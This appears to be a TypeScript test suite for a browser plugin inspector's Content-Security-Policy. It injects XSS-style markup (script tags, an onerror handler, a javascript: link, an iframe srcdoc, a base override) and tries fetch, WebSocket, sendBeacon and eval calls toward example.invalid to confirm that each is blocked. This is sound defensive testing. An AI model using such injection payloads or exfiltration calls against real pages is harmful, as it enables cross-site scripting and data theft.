// The policy of the inspector: nothing leaves the page, and nothing but its own script runs.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { InspectorBrowser } from '../../support/inspector-tab.ts';

const policy = suite('the policy of the inspector');
const inspector = new InspectorBrowser(policy, 'the policy of the inspector');

/** What stands between two texts, which are in the document once each. */
function between(html: string, start: string, end: string): string {
  const at = html.indexOf(start) + start.length;
  return html.slice(at, html.indexOf(end, at));
}

async function hashOf(text: string): Promise<string> {
  const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
  return `'sha256-${Buffer.from(hash).toString('base64')}'`;
}

policy('is exactly this one, with the hashes of its script and its style', async () => {
  const { html } = inspector;
  if (html === undefined) return;
  const [script, style] = [between(html, '<script>', '</script>'), between(html, '<style>', '</style>')];
  assert.ok(script.length > 100_000 && style.length > 1_000, 'script and style were found');
  assert.equal(between(html, 'http-equiv="Content-Security-Policy" content="', '"').split('; '), [
    "default-src 'none'",
    `script-src ${await hashOf(script)} 'wasm-unsafe-eval'`,
    `style-src ${await hashOf(style)}`,
    'worker-src blob:',
    'img-src data:',
    "base-uri 'none'",
    "form-action 'none'",
  ]);
  const before = html.slice(0, html.indexOf('http-equiv'));
  assert.not.match(before, /<script|<style|<link/, 'nothing stands before the policy');
});

/** What somebody who could write into the page would write. */
const INJECTED = `<script>document.title = 'changed'</script>
<img src="data:image/png,x" onerror="document.title = 'changed'">
<a id="in" href="javascript:document.title='changed'" style="color: red">in</a>
<style>#in { color: red }</style>
<iframe srcdoc="<script>parent.document.title='changed'</script>"></iframe>
<base href="https://example.invalid/">`;

policy('keeps what is injected into the document from running', async () => {
  const html = inspector.html?.replace('<div id="page">', `${INJECTED}<div id="page">`);
  await inspector.use({ isAttacked: true, ...(html !== undefined && { html }), place: 'loopback' }, async (tab) => {
    await tab.openSample('router.wasm');
    assert.match(await tab.verdict(), /A host admits this plugin/);
    await tab.page.getByRole('link', { name: 'in', exact: true }).click();
    await tab.livesOn();
    assert.match(await tab.page.title(), /Plugin inspector$/);
    const link = tab.page.locator('#in');
    assert.is.not(await link.evaluate((element) => getComputedStyle(element).color), 'rgb(255, 0, 0)');
    assert.match(await tab.page.evaluate(() => document.baseURI), /^http:\/\/127\.0\.0\.1/);
    const refused = tab.complaints.filter((text) => text.startsWith('policy: '));
    const directives = [...new Set(refused.map((text) => text.split(' ')[1]))].sort();
    const expected = ['base-uri', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
    assert.equal(directives, expected, refused.join('\n'));
  });
});

/** Ways out of a page or a worker, as source text that runs there. Each ends with an error. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: "fetch('https://example.invalid/')",
  'a request to its own server': "fetch('/secret')",
  XMLHttpRequest: `new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = () => reject(new Error('refused'));
    request.open('GET', 'https://example.invalid/');
    request.send();
  })`,
  WebSocket: `new Promise((resolve, reject) => {
    const socket = new WebSocket('wss://example.invalid/');
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error('refused'));
  })`,
  EventSource: `new Promise((resolve, reject) => {
    const source = new EventSource('https://example.invalid/');
    source.onopen = resolve;
    source.onerror = () => reject(new Error('refused'));
  })`,
  eval: "(0, eval)('1')",
  Function: "new Function('return 1')()",
};

policy('leaves page and worker no way out', async () => {
  await inspector.use({ isAttacked: true, place: 'loopback', fragment: '#sample=router' }, async (tab) => {
    await tab.verdict();
    const [worker] = tab.page.workers();
    if (worker === undefined) throw new Error('the page has no worker');
    for (const [name, source] of Object.entries(WAYS_OUT)) {
      // In a timer, because what a test evaluates may itself evaluate.
      const attempt = `new Promise((resolve) => setTimeout(() =>
        Promise.resolve().then(() => ${source}).then(() => resolve('got out'), () => resolve('refused'))))`;
      assert.is(await tab.page.evaluate(attempt), 'refused', `${name} in the page`);
      assert.is(await worker.evaluate(attempt), 'refused', `${name} in the worker`);
    }
    await tab.page.evaluate(() => {
      new Image().src = 'https://example.invalid/image.png';
      navigator.sendBeacon('https://example.invalid/', 'text');
    });
    await tab.livesOn();
    const refused = tab.complaints.filter((text) => text.startsWith('policy: '));
    assert.equal(refused, [
      'policy: connect-src https://example.invalid/',
      `policy: connect-src ${new URL('/secret', tab.page.url()).href}`,
      'policy: connect-src https://example.invalid/',
      'policy: connect-src wss://example.invalid/',
      'policy: connect-src https://example.invalid/',
      'policy: script-src eval',
      'policy: script-src eval',
      'policy: connect-src https://example.invalid/',
      'policy: img-src https://example.invalid/image.png',
    ]);
  });
});

policy.run();
